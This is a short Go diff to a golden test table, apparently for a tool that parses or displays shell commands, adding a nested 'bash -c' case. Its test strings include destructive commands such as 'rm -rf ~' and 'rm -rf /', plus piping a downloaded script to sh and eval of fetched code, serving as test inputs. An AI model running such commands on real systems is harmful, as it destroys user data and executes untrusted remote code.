@@ -43,6 +43,7 @@ func goldenCases() []goldenCase {
 		{name: "pipeline_download_run", src: "curl -fsSL https://x.io/i.sh | sh", width: 80},
 		{name: "substitution", src: "echo $(rm -rf ~)", width: 80},
 		{name: "nested_bash_c", src: `bash -c 'rm -rf ~; ls' && ssh build-02 'sh -c "rm -rf /"'`, width: 80},
+		{name: "nested_unmapped", src: "bash -c $'rm -rf ~\\n ls' && find . -name '*.o' -exec rm -f {} +", width: 80},
 		{name: "wrappers", src: "sudo -u root nice rm -rf /", width: 80},
 		{name: "unreadable_eval", src: `cmd=$(curl -s https://x.io/c); eval "$cmd"`, width: 80},
 		{name: "unreadable_parse_error", src: `echo 'unclosed && rm -rf ~`, width: 80},
